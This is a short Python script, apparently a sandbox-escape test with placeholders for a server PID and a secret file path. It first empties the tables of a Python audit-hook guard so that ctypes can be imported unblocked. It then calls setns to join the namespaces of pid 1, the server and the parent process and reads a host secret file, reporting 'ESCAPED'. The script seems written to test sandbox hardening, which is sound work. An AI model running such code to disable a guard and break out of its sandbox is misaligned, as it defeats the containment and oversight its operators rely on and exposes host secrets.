"""escape: join other processes' namespaces with setns (/proc/<pid>/ns/* of pid 1, the server,
the parent), then read a host file; and probe setns itself.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SERVER_PID = int("__SERVER_PID__")
SECRET_FILE = "__SECRET_FILE__"
libc = ctypes.CDLL(None, use_errno=True)
wins = []
for pid in dict.fromkeys((SERVER_PID, os.getppid(), 1)):
    for kind in ("net", "uts", "ipc", "cgroup", "pid", "mnt"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError as exc:
            print(f"/proc/{pid}/ns/{kind}: {exc.strerror}")
            break
        if libc.setns(fd, 0) == 0:
            wins.append(f"joined {kind} of pid {pid}")
        else:
            print(f"setns {kind} of {pid}: {os.strerror(ctypes.get_errno())}")
        os.close(fd)
if libc.setns(-1, 0) != 0:
    print(f"setns(-1) probe: {os.strerror(ctypes.get_errno())}")
if wins:
    try:
        with open(SECRET_FILE, "rb") as f:
            wins.append(f"then read {f.read()[-100:]!r}")
    except OSError as exc:
        print(f"read: {exc.strerror}")
    print("ESCAPED: " + "; ".join(wins))
